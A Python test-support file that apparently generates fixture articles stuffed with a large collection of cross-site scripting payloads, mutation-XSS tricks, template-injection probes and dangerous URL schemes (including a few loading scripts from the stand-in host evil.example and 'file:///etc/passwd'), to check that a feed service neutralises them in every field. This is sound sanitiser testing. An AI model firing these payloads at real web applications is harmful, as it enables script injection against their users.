"""Markup that has made browsers run something: in bodies, and in every other text that people read."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

from support import write_article

from feedsvc.text import one_line

if TYPE_CHECKING:
    from pathlib import Path

# What each of them would do, were it ever run.
_RUN = "window.injected=1"

MARKUP = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt >{_RUN}</sCrIpT >",
    f"<script/x>{_RUN}</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    "<script src=//evil.example/x.js></script>",
    "<script src=data:,window.injected=1>",
    f"<script>{_RUN}",
    f"<<script>{_RUN}//<</script>",
    f"\x00<scr\x00ipt>{_RUN}</scr\x00ipt>",
    f"<img src=x onerror={_RUN}>",
    f"<img/src='x'/onerror='{_RUN}'>",
    f"<img src=x:x onerror\n=\n{_RUN}>",
    f'<IMG """><SCRIPT>{_RUN}</SCRIPT>">',
    f"<img src=`x`onerror={_RUN}>",
    f"<body onload={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg/onload={_RUN}//",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><script href='data:,{_RUN}'/>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:window.injected=1 /><text x=20 y=20>x</text></a>",
    f"<svg><foreignObject><iframe onload={_RUN}></foreignObject></svg>",
    f'<svg><style><img title="</style><img src=x onerror={_RUN}>">',
    f'<svg></p><style><a id="</style><img src=1 onerror={_RUN}>">',
    "<math><a xlink:href='javascript:window.injected=1'>x</a></math>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={_RUN}&gt;">',
    f"<math><mi><table><mi><mglyph></mglyph><style><img src onerror={_RUN}></style>",
    "<math href='javascript:window.injected=1'>x</math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={_RUN}>",
    f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
    f"<template><img src=x onerror={_RUN}></template>",
    f'<textarea><a title="</textarea><img src=x onerror={_RUN}>">',
    f'<title><a title="</title><img src=x onerror={_RUN}>">',
    f'<noembed><img title="</noembed><img src=x onerror={_RUN}>"></noembed>',
    f'<xmp><p title="</xmp><img src=x onerror={_RUN}>">',
    f"<select><template shadowrootmode=open><img src=x onerror={_RUN}></template></select>",
    f'<p><style><!--</style><a title="--><img src=x onerror={_RUN}>">',
    f"<!--><img src=x onerror={_RUN}>-->",
    f"<!-- --!><img src=x onerror={_RUN}><!-- -->",
    f"<!--[if gte IE 4]><script>{_RUN}</script><![endif]-->",
    f"<![CDATA[<img src=x onerror={_RUN}>]]>",
    f"]]><script>{_RUN}</script><![CDATA[",
    f"]]>&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&lt;img src=x onerror={_RUN}&gt;",
    f"&amp;lt;img src=x onerror={_RUN}&amp;gt;",
    f"<?xml version='1.0'?><script>{_RUN}</script>",
    f"<!DOCTYPE x [<!ENTITY a '<script>{_RUN}</script>'>]>&a;",
    "<iframe src=javascript:window.injected=1></iframe>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    "<object data=javascript:window.injected=1></object>",
    "<object data='data:text/html,<script>window.injected=1</script>'></object>",
    "<embed src=javascript:window.injected=1>",
    "<applet code=x archive=//evil.example/></applet>",
    "<frameset><frame src=javascript:window.injected=1></frameset>",
    "<base href='javascript:window.injected=1//'><a href='/x'>x</a>",
    "<base href=//evil.example/><img src=x.png>",
    "<meta http-equiv=refresh content='0;url=javascript:window.injected=1'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href='data:text/html,<script>window.injected=1</script>'>",
    "<style>*{display:none}</style>",
    "<style>@import '//evil.example/x.css'</style>",
    "<div style='position:fixed;inset:0;z-index:9999;background:red'>covered</div>",
    "<p style=\"background:url('javascript:window.injected=1')\">x</p>",
    "<p class=wide id=main name=body slot=x part=x is=x-y>clobbered</p>",
    "<a id=injected name=injected href=//evil.example/>x</a><a id=injected name=x href=x>y</a>",
    "<form action=javascript:window.injected=1><button>x</button></form>",
    "<form id=x></form><button form=x formaction=javascript:window.injected=1>x",
    "<input autofocus onfocus=window.injected=1>",
    "<isindex action=javascript:window.injected=1 type=image>",
    "<keygen autofocus onfocus=window.injected=1>",
    "<details open ontoggle=window.injected=1><summary>x</summary></details>",
    "<marquee onstart=window.injected=1>x</marquee>",
    "<video><source onerror=window.injected=1></video>",
    "<video poster=javascript:window.injected=1 src=x></video>",
    "<audio src=x onerror=window.injected=1>",
    "<table background=javascript:window.injected=1><td background=javascript:window.injected=1>x",
    "<dialog open><p popover onbeforetoggle=window.injected=1>x</dialog>",
    "<x onclick=window.injected=1 tabindex=1 autofocus onfocus=window.injected=1>x</x>",
    "<x-element contenteditable onbeforeinput=window.injected=1>x",
    "<a href=x ping=//evil.example/ download target=_top rel=opener>x</a>",
    "<img srcset='x.png 1x, javascript:window.injected=1 2x' usemap=#x longdesc=javascript:window.injected=1>",
    "<map name=x><area href=javascript:window.injected=1 coords=0,0,9,9></map>",
    "</title><img src=x onerror=window.injected=1>",
    "</div></article></main></body></html><script>window.injected=1</script>",
    "</textarea></style></script><img src=x onerror=window.injected=1>",
    '"><img src=x onerror=window.injected=1>',
    "' onmouseover='window.injected=1' x='",
    '" autofocus onfocus=window.injected=1 x="',
    "` onerror=window.injected=1 `",
    "</content></entry><entry><title>injected</title></entry>",
    "</description></item><item><title>injected</title></item>",
    '","title":"injected","x":"',
    "{{7*7}}{% print(7) %}${7*7}#{7*7}<%= 7*7 %>",
    "+ADw-script+AD4-window.injected=1+ADw-/script+AD4-",
    "\u2028<script>window.injected=1</script>\u2029",
    "\uff1cscript\uff1ewindow.injected=1\uff1c/script\uff1e",
)  # fmt: skip

# Addresses that are none, as they would stand in an attribute or in a field.
ADDRESSES = (
    "javascript:window.injected=1", "JaVaScRiPt:window.injected=1", " javascript:window.injected=1",
    "java\tscript:window.injected=1", "java\nscript:window.injected=1", "java\rscript:window.injected=1",
    "\x01javascript:window.injected=1", "javascript\x00:window.injected=1", "javascript&colon;window.injected=1",
    "&#106;avascript:window.injected=1", "&#x6A&#x61vascript:window.injected=1",
    "java&Tab;script:window.injected=1",
    "java&NewLine;script:window.injected=1", "&#0000106&#0000097vascript:window.injected=1",
    "javascript://example.org/%0Awindow.injected=1", "javascript:https://example.org/", "view-source:javascript:1",
    "vbscript:msgbox(1)", "livescript:window.injected=1", "mocha:window.injected=1", "feed:javascript:1",
    "data:text/html,<script>window.injected=1</script>", "data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg onload=window.injected=1>", "data:,x", "blob:https://example.org/x",
    "file:///etc/passwd", "filesystem:https://example.org/x", "jar:https://example.org!/x", "about:blank",
    "ws://example.org/", "ftp://example.org/", "intent://x#Intent;end", "chrome://settings", "x:y",
)  # fmt: skip


def write_payloads(articles: Path) -> dict[str, str]:
    """An article of each payload, as Markdown and as HTML, in every field that is text; their titles by URL."""
    titles: dict[str, str] = {}

    def write(name: str, title: str, body: str, **fields: object) -> None:
        url = f"https://example.org/{len(titles)}"
        titles[url] = one_line(title)
        # JSON is YAML, with all quoted that needs to be.
        own = {"title": title, "webUrl": url} | fields
        write_article(articles, name, body, **{key: json.dumps(value) for key, value in own.items()})

    for number, payload in enumerate(MARKUP):
        for ending in ("md", "html"):
            provider = {"name": f"{payload[:150]}", "domain": "example.org", "authors": [payload[:150]]}
            related = [{"title": payload, "webUrl": f"https://example.net/{number}", "provider": payload[:150]}]
            texts = {"excerpt": payload, "type": payload, "category": payload, "related": related}
            topics, player = [payload[:150], "All"], f"<iframe src='https://example.org/play'></iframe>{payload}"
            images = [{"url": f"https://example.org/{number}.png", "title": payload}]
            own = {**texts, "topics": topics, "provider": provider, "featuredContent": player, "images": images}
            body = f"Before {payload} after\n\n{payload}\n\n> {payload}\n\n`{payload}`\n"
            write(f"markup-{number}.{ending}", f"T{number} {payload} ends", body, **own)
    for number, address in enumerate(ADDRESSES):
        icon = {"name": "Example", "domain": address, "images": [address]}
        player = f'<iframe src="{address}"></iframe>'
        related = [{"title": "x", "webUrl": address}]
        own = {"originalUrl": address, "ampWebUrl": address, "images": [address], "provider": icon}
        own |= {"featuredContent": player, "related": related, "topics": ["All"]}
        html = "".join(f'<{tag} {name}="{address}">x</{tag}>' for tag, name in (("a", "href"), ("q", "cite")))
        html += f"<img src='{address}'><img src={address}><svg><a xlink:href='{address}'>x</a></svg>"
        write(f"address-{number}.html", f"Address {number}", html, **own)
        markdown = f"[a]({address}) ![b]({address}) [c](<{address}>) <{address}> [d]\n\n[d]: {address}\n\n{html}"
        write(f"address-{number}.md", f"Address {number}", markdown, **own)
    return titles
